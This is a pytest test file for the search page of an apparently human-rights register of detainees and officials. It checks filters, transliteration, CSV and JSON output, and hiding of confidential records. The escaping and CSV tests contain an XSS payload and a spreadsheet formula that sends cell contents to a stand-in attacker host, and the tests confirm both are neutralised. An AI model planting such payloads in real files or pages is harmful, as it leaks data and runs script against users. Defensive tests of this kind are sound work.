"""Search: grouped by kind, facts that tell namesakes apart, filters, JSON and CSV, masking."""
import pytest

from graph.store.records import NodeRecord
from graph.store.writer import write_records
from tests.explore_data import load


@pytest.fixture
def data(graph):
    return load(graph)


def results(client, **args):
    return client.get("/search.json", query_string=args).get_json()


def test_namesakes_are_told_apart(graph, client):
    write_records(graph, [
        NodeRecord("Person", "a1", {"name": "Oleg Ivanov", "status": "convicted", "region": "crimea"}, ("Detainee",)),
        NodeRecord("Person", "a2", {"name": "Oleg Ivanov", "status": "released", "region": "donetsk"}, ("Detainee",)),
        NodeRecord("Person", "a3", {"name": "Oleg Ivanov", "rank": "colonel"}, ("Official",))])
    found = results(client, q="Олег Иванов")
    assert found["groups"]["detainee"] and found["groups"]["official"] == ["a3"]
    facts = {h["uid"]: h["facts"] for h in found["results"]}
    assert "crimea" in facts["a1"] and "donetsk" in facts["a2"] and "colonel" in facts["a3"]
    html = client.get("/search?q=Ivanov").get_data(as_text=True)
    assert 'id="kind-detainee"' in html and 'id="kind-official"' in html


def test_filters(data, client):
    assert results(client, q="Sudin", kind="official")["groups"] == {"official": [data["judge"]]}
    assert results(client, q="Sudin", kind="sanction")["groups"] == {"sanction": [data["sanction"]]}
    assert results(client, q="Server", region="crimea", status="convicted")["groups"]["detainee"] == [data["detainee"]]
    assert results(client, q="Server", status="released")["count"] == 0
    assert results(client, q="Server", kind="DROP")["count"] >= 1    # unknown values mean no filter


def test_typos_scripts_and_formats(data, client):
    for q in ("Mustafaev", "Мустафаєв", "Mustafayev", "mustafayv"):
        assert data["detainee"] in {h["uid"] for h in results(client, q=q)["results"]}, q
    by_accept = client.get("/search?q=Sudin", headers={"Accept": "application/json"}).get_json()
    assert by_accept["results"][0]["uid"] == data["judge"]
    csv = client.get("/search?q=Sudin&format=csv")
    assert csv.mimetype == "text/csv" and "Ivan Petrovich Sudin" in csv.get_data(as_text=True)


def test_protected_and_confidential_are_not_found(data, client, app):
    assert results(client, q="Secretova")["count"] == 0
    assert results(client, q="Testimony witness")["count"] == 0
    app.config["ROLE"] = "editor"
    assert {data["witness"], data["secret"]} <= {h["uid"] for h in results(client, q="Secretova")["results"]}


def test_escaped_in_results(data, client):
    html = client.get("/search?q=img").get_data(as_text=True)
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_csv_downloads_never_carry_live_formulas(graph, client):
    """A name typed into a register as a spreadsheet formula downloads as inert text."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Formula Person")'
    write_records(graph, [NodeRecord("Person", "f1", {"name": evil, "status": "detained"}, ("Detainee",)),
                          NodeRecord("Person", "f2", {"name": "-Formula Minus", "status": "detained"}, ("Detainee",))])
    text = client.get("/search", query_string={"q": "Formula", "format": "csv"}).get_data(as_text=True).lstrip("\ufeff")
    assert "'=HYPERLINK" in text and "'-Formula Minus" in text
    assert '\n=HYPERLINK' not in text and ',=HYPERLINK' not in text and '"=HYPERLINK' not in text
